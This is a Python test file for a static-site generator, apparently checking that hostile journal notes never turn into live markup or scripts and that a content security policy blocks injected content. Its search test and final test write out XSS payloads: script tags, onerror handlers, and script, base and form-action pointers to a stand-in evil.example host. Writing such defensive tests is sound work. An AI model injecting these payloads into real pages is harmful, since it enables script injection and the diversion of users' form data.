"""Notes written to break out of their pages: nothing runs, nothing is asked for, and no markup of theirs is markup."""

from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from kith.load import Loaded, read_journal
from kith.pipeline import Review, build_site
from tests.site.hostile import ATTACHMENTS, PAYLOADS, fields_only, journal
from tests.site.reader import Reader, write_site
from tests.site.small import JOURNAL, TODAY, site_of

# what prose may be made of, besides what the pages of the small journal hold
PROSE = {
    *("blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "pre", "s", "strong", "mark", "wbr"),
    *("table", "tbody", "td", "th", "thead", "tr", "a rel", "a class", "img alt", "img src", "img loading", "ol", "q"),
    *("sup", "sup class", "hr class", "ol class", "li id"),
}
# what the scripts add
ADDED = {
    *("a data-number", "a dir", "a id", "a role", "a tabindex", "a aria-selected", "button aria-label"),
    *("button hidden", "div hidden", "div id", "div role", "div aria-label", "div aria-labelledby"),
    *("form aria-label", "h3 id", "h3 role", "input role", "input aria-activedescendant"),
    *("input aria-autocomplete", "input aria-controls", "input aria-expanded", "input aria-keyshortcuts"),
    *("kbd", "kbd aria-hidden", "p aria-hidden", "p role", "select", "select name", "option", "option value", "output"),
}
LEADS_TO = {"file:", "https:", "http:", "mailto:", "tel:"}
# the elements of a page and their attributes, where its links lead, and its scripts
READ = """() => {
    const found = new Set();
    for (const one of document.querySelectorAll("*")) {
        found.add(one.localName);
        for (const name of one.getAttributeNames()) found.add(`${one.localName} ${name.toLowerCase()}`);
    }
    return {
        found: [...found],
        leads: [...document.querySelectorAll("a, area")].map((one) => one.protocol ?? "https:"),
        scripts: [...document.scripts].map((one) => one.src + one.textContent),
    };
}"""


class Shape(HTMLParser):
    """Lists the elements of a page, each with the names of its attributes; texts and values are not part of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, ...]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take an element; an address may be broken before an at sign, and has one in some payloads."""
        if tag != "wbr":
            self.elements.append((tag, *(name for name, _ in attrs)))


@pytest.fixture(scope="module")
def harmless() -> set[str]:
    """Return the elements and attributes of the pages of a journal that means no harm."""
    shapes = [element for html in site_of(JOURNAL).values() for element in Shape(html).elements]
    return {tag for tag, *_ in shapes} | {f"{tag} {name}" for tag, *names in shapes for name in names}


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with the site of the hostile journal."""
    files = {path: text.encode() for path, text in journal().items()}
    read, findings = read_journal(files, frozenset(ATTACHMENTS))
    site = build_site(Review(Loaded(read, findings, files), TODAY), ATTACHMENTS)
    return write_site(site, tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def visitor(reader: Reader, trap: Path) -> Iterator[Reader]:
    """Return a reader of the hostile journal."""
    before, reader.site = reader.site, trap
    yield reader
    reader.site = before


def leaked(page: Page, visitor: Reader, harmless: set[str]) -> set[str]:
    """Return what is on a page that no page should hold."""
    read = page.evaluate(READ)
    ours = tuple(f"{visitor.site.as_uri()}/{folder}/" for folder in ("scripts", "assets"))
    return {
        *(set(read["found"]) - harmless - PROSE - ADDED),
        *(set(read["leads"]) - LEADS_TO),
        *(script for script in read["scripts"] if not script.startswith(ours)),
    }


def test_nothing_of_a_hostile_note_runs_or_becomes_markup(visitor: Reader, harmless: set[str]) -> None:
    assert len(PAYLOADS) >= 200
    addresses = sorted(path.relative_to(visitor.site).as_posix() for path in visitor.site.rglob("*.html"))
    assert len(addresses) > 25
    leaks = {address: leaked(visitor.open(address), visitor, harmless) for address in addresses}
    assert {address: leak for address, leak in leaks.items() if leak} == {}


def test_search_shows_hostile_notes_as_text(visitor: Reader, harmless: set[str]) -> None:
    page = visitor.open("search.html?q=%3Cscript%3Ealert(1)")
    expect(page.locator(".hits.all mark").first).to_be_visible()
    page.locator("#q").fill("onerror=alert(1)")
    expect(page.get_by_role("option").first).to_be_visible()
    assert leaked(page, visitor, harmless) == set()


def test_texts_of_front_matter_change_no_element() -> None:
    sober, hostile = site_of(fields_only(harmless=True)), site_of(fields_only())
    for address in ("index.html", "contacts.html", "contacts/h0.html", "meetings/m1.html", "organizations/o1.html"):
        assert Counter(Shape(hostile[address]).elements) == Counter(Shape(sober[address]).elements), address


def test_the_policy_stops_what_would_get_through(visitor: Reader) -> None:
    smuggled = (
        "<script>document.title = 'owned'</script><img src=x onerror=\"document.title = 'owned'\">"
        "<p id=s style='position: fixed'>s</p><script src=https://evil.example/a.js></script>"
        "<img src=https://evil.example/p.gif><base href=https://evil.example/>"
        "<form id=f action=https://evil.example/><input name=a value=b></form><iframe src=pocket.html></iframe>"
    )
    page = visitor.site / "tags.html"
    page.write_text(page.read_text(encoding="utf-8").replace("<main", f"{smuggled}<main"), encoding="utf-8")
    refused: list[str] = []
    visitor.page.on("requestfailed", lambda one: refused.append(one.url) if one.failure == "csp" else None)
    tab = visitor.open("tags.html")
    sees = "[document.title === 'owned', getComputedStyle(document.querySelector('#s')).position, document.baseURI]"
    assert tab.evaluate(sees) == [False, "static", tab.url]
    tab.evaluate("document.querySelector('#f').submit()")
    directives = ("script-src", "style-src", "img-src", "frame-src", "form-action", "base-uri")
    for _ in range(100):  # what the browser says comes when it comes
        said = " ".join(visitor.complaints)
        asked = {url for url in visitor.complaints if url.startswith("https:")}
        if all(one in said for one in directives) and asked == set(refused):
            break
        tab.wait_for_timeout(20)
    assert [one for one in directives if one not in said] == []
    assert asked == set(refused) != set()
    visitor.complaints.clear()
